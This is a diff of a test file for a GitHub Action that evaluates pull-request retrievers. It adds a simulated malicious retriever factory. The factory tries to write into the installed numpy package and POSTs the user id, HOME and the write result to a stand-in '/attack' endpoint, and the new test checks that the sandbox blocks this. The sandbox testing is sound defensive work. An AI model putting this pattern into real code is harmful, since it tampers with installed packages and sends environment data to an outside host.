@@ -190,12 +190,57 @@ serve()
 )
 
 
+# A Python factory (it runs in the Python process of its own the Action starts for it): the
+# same attack on numpy.random from inside the factory, then every document in corpus order.
+FACTORY = r"""
+import json, os, sysconfig, urllib.request
+from retrieval_eval.api import Hit, SearchResult
+
+
+class Mine:
+    name = "mine"
+
+    def index(self, corpus):
+        self.ids = [document.id for document in corpus.documents]
+
+    def search(self, query, k, tags=()):
+        ranked = enumerate(self.ids[:k])
+        return SearchResult(hits=tuple(Hit(i, 1.0 / (n + 1), "") for n, i in ranked))
+
+    def describe(self):
+        return {}
+
+
+def make(**options):
+    target = os.path.join(sysconfig.get_paths()["purelib"], "numpy", "random", "__init__.py")
+    try:
+        open(target, "x").close()
+        result = "written"
+    except OSError as error:
+        result = type(error).__name__
+    findings = {"uid": os.getuid(), "numpy": result, "home": os.environ.get("HOME")}
+    request = urllib.request.Request(
+        os.environ["GITHUB_API_URL"] + "/attack", data=json.dumps(findings).encode(),
+        headers={"Content-Type": "application/json"}, method="POST",
+    )
+    try:
+        urllib.request.urlopen(request, timeout=10).read()
+    except Exception:
+        pass
+    return Mine()
+"""
+
+
 def custom_retriever(script: str) -> dict[str, str]:
+    if script is FACTORY:
+        table, files = 'python = "mine:make"\n', {"mine.py": script}
+    else:
+        table, files = 'command = ["python3", "search.py"]\n', {"search.py": script}
     config = (
         CONFIG + '\n[dataset_retrievers]\n"keyword.jsonl" = "custom"\n\n'
-        '[retrievers.custom]\ncommand = ["python3", "search.py"]\n'
+        "[retrievers.custom]\n" + table
     )
-    return {"retrieval-eval.toml": config, "search.py": script}
+    return {"retrieval-eval.toml": config, **files}
 
 
 def give(workspace: Path, owner: tuple[int, int]) -> None:
@@ -296,6 +341,19 @@ def test_the_pull_requests_code_reaches_nothing_of_the_actions(
     # The runner's folders have their modes back.
     assert (tmp_path / "pr" / "fc").stat().st_mode & 0o777 == 0o755
     assert (tmp_path / "pr" / "home").stat().st_mode & 0o777 == 0o755
+
+
+def test_a_python_factory_runs_as_the_user_too(
+    action_image: str, github: FakeGitHub, tmp_path: Path
+) -> None:
+    run, head = pull_request_with(action_image, github, tmp_path, FACTORY)
+
+    [seen] = attack_reports(github)
+    assert (seen["uid"], seen["numpy"]) == (CHILD_UID, "PermissionError"), seen
+    assert seen["home"] != "/github/home"
+    assert run.returncode == 1, run.log
+    assert run.outputs["verdict"] == "regression"
+    assert [s["state"] for s in github.statuses_for(head)] == ["failure"]
 
 
 def test_without_its_user_the_image_runs_no_pull_request_code(
